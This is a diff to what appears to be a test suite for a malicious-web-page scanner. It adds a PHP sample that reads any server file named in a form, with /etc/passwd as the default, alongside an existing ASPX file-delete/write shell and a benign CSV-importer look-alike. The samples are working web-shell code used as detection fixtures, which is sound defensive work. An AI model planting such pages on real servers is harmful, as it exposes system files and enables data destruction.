@@ -34,9 +34,41 @@ const PAGES: [string, string, string][] = [
     '/inetpub/wwwroot/w.aspx',
     `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%\nstring at = Encoding.UTF8.GetString(Convert.FromBase64String(Request["at"]));\nswitch (Request["op"]) {\n  case "rm": if (File.Exists(at)) File.Delete(at); else Directory.Delete(at, true); break;\n  case "put": File.WriteAllText(at, Encoding.UTF8.GetString(Convert.FromBase64String(Request["text"]))); break;\n}\n%>\n`,
   ],
+  [
+    'a page reading the file a form names through LOAD DATA LOCAL INFILE into a table it makes (H36)',
+    '/srv/www/my.php',
+    `<?php
+session_start();
+foreach (['h', 'u', 'p', 'd'] as $k) if (isset($_POST[$k])) $_SESSION[$k] = $_POST[$k];
+if (!empty($_POST['file'])) {
+  $c = mysqli_connect($_SESSION['h'], $_SESSION['u'], $_SESSION['p'], $_SESSION['d']);
+  $f = $_POST['file'];
+  mysqli_query($c, "DROP TABLE IF EXISTS t1");
+  mysqli_query($c, "CREATE TABLE t1 (line TEXT)");
+  mysqli_query($c, "LOAD DATA LOCAL INFILE '$f' INTO TABLE t1");
+  $r = mysqli_query($c, "SELECT * FROM t1");
+  while ($row = mysqli_fetch_row($r)) echo htmlspecialchars($row[0]), "\n";
+}
+?>
+<form method="post"><input name="file" value="/etc/passwd"><button>Read</button></form>
+`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
+  [
+    'a CSV importer loading the uploaded file into a table it makes',
+    '/srv/www/admin/import.php',
+    `<?php
+require 'auth.php';
+if (isset($_POST['go'], $_FILES['csv'])) {
+  $tmp = $_FILES['csv']['tmp_name'];
+  $db->query("CREATE TABLE IF NOT EXISTS staging (a TEXT, b TEXT)");
+  $db->query("LOAD DATA LOCAL INFILE '$tmp' INTO TABLE staging FIELDS TERMINATED BY ','");
+  echo $db->query("SELECT COUNT(*) FROM staging")->fetch_row()[0], ' rows';
+}
+`,
+  ],
   [
     'a page choosing its template from the query or a default, checked against a list',
     '/srv/www/index.php',
@@ -66,12 +98,12 @@ describe('scan: session 42 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 5));
+  it('ran every page', () => assert.equal(PAGES.length, 6));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 4));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 5));
 });
